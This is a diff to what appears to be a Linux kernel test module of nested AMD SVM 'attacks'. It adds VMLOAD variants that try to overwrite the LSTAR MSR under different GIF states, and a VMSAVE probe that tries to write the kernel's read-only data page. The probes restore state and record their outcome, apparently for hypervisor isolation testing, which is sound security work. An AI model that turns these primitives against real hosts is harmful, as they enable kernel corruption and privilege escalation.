@@ -6,7 +6,9 @@
  */
 #include <linux/gfp.h>
 #include <linux/irqflags.h>
+#include <linux/mm.h>
 #include <linux/string.h>
+#include <linux/vmalloc.h>
 #include <asm/io.h>
 #include <asm/msr.h>
 #include <asm/trapnr.h>
@@ -16,6 +18,7 @@
 
 enum { AT_NCR3, AT_TABLE, AT_WRITE, AT_READ, AT_MSRPM, AT_IOPM, AT_VMCB, AT_DEVICE_VMCB };
 enum { BY_CLEARED, BY_MAP, BY_CLEAN_BITS };
+enum { GIF_SET, GIF_BY_STGI, GIF_BY_SVME };
 
 #define WITH(f, guest)                                                                             \
 	struct forged *f = forged_make(guest);                                                     \
@@ -157,15 +160,25 @@ static void vmload_lstar(const struct attack *a)
 	rdmsrl(MSR_EFER, efer);
 	trap = try_wrmsr(MSR_EFER, efer | EFER_SVME);
 	rdmsrl(MSR_LSTAR, was);
-	if (trap == NO_TRAP)
+	now = was;
+	if (trap == NO_TRAP) {
 		asm volatile("vmsave" : : "a"(__pa(f->vmcb)) : "memory");
-	f->vmcb->save.lstar = was + 16;
-	if (trap == NO_TRAP)
+		f->vmcb->save.lstar = was + 16;
+		if (a->arg != GIF_SET)
+			asm volatile("clgi");
 		asm volatile("1: vmload\n\tmov $-1, %%eax\n2:\n" _ASM_EXTABLE_FAULT(1b, 2b)
 			     : "=a"(trap)
 			     : "a"(__pa(f->vmcb))
 			     : "memory");
-	rdmsrl(MSR_LSTAR, now);
+		if (a->arg == GIF_BY_SVME)
+			try_wrmsr(MSR_EFER, efer & ~EFER_SVME);
+		else if (a->arg == GIF_BY_STGI)
+			asm volatile("stgi");
+		rdmsrl(MSR_LSTAR, now);
+		/* Without oldguard it is clear still. */
+		if (a->arg == GIF_BY_SVME && try_wrmsr(MSR_EFER, efer | EFER_SVME) == NO_TRAP)
+			asm volatile("stgi");
+	}
 	if (now != was)
 		try_wrmsr(MSR_LSTAR, was);
 	try_wrmsr(MSR_EFER, efer);
@@ -203,6 +216,41 @@ static void l1_swap(const struct attack *a)
 	local_irq_restore(flags);
 	came_of(trap, trap == NO_TRAP);
 	forged_free(f);
+}
+
+/* VMSAVE writes constant memory of the kernel, or what lies there already: by its physical address. */
+static void vmsave_rodata(const struct attack *a)
+{
+	u8 *at = (u8 *)(find("__start_rodata") & PAGE_MASK);
+	u64 pa = slow_virt_to_phys(at), efer;
+	struct page *page = pfn_to_page(PHYS_PFN(pa));
+	u8 *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
+	u8 *was = (u8 *)get_zeroed_page(GFP_KERNEL);
+	unsigned long flags;
+	bool changed;
+	int trap;
+
+	if (!alias || !was) {
+		impossible("no memory");
+	} else {
+		local_irq_save(flags);
+		memcpy(was, at, PAGE_SIZE);
+		rdmsrl(MSR_EFER, efer);
+		trap = try_wrmsr(MSR_EFER, efer | EFER_SVME);
+		if (trap == NO_TRAP)
+			asm volatile("1: vmsave\n\tmov $-1, %%eax\n2:\n" _ASM_EXTABLE_FAULT(1b, 2b)
+				     : "=a"(trap)
+				     : "a"(pa)
+				     : "memory");
+		changed = memcmp(was, at, PAGE_SIZE);
+		if (changed)
+			memcpy(alias, was, PAGE_SIZE);
+		try_wrmsr(MSR_EFER, efer);
+		local_irq_restore(flags);
+		came_of(trap, changed);
+	}
+	vunmap(alias);
+	free_page((unsigned long)was);
 }
 
 /* In the guest they take system-physical addresses, if nobody intercepts them. */
@@ -361,7 +409,10 @@ const struct attack nested_attacks[] = { { "nested-ncr3", point, AT_NCR3 },
 					 { "nested-clean-bits", second_time, BY_CLEAN_BITS },
 					 { "nested-lstar", l2_lstar, BY_CLEARED },
 					 { "nested-lstar-map", l2_lstar, BY_MAP },
-					 { "nested-vmload-lstar", vmload_lstar },
+					 { "nested-vmload-lstar", vmload_lstar, GIF_SET },
+					 { "nested-stgi-lstar", vmload_lstar, GIF_BY_STGI },
+					 { "nested-svme-lstar", vmload_lstar, GIF_BY_SVME },
+					 { "nested-vmsave-rodata", vmsave_rodata },
 					 { "nested-vmsave", l1_swap, 1 },
 					 { "nested-vmload", l1_swap, 0 },
 					 { "nested-l2-vmsave", l2_swap, 1 },
